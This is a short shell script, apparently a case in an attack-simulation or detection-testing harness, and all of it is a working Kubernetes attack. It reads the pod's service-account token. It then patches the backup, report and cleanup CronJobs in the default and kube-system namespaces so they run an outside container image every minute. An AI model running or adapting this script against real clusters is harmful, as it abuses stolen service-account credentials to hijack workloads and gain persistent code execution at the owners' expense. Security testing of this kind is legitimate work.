#!/bin/sh
. /opt/case/case.sh

token=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token)
for s in default kube-system; do
    for j in backup report cleanup; do
        curl -sf -X PATCH -H "Authorization: Bearer $token" -H 'Content-Type: application/strategic-merge-patch+json' \
            -d '{"spec":{"schedule":"* * * * *","jobTemplate":{"spec":{"template":{"spec":{"containers":[{"name":"main","image":"docker.io/bait/blackt:latest"}]}}}}}}' \
            "http://10.77.0.1:6443/apis/batch/v1/namespaces/$s/cronjobs/$j" >/dev/null
    done
done
took_place
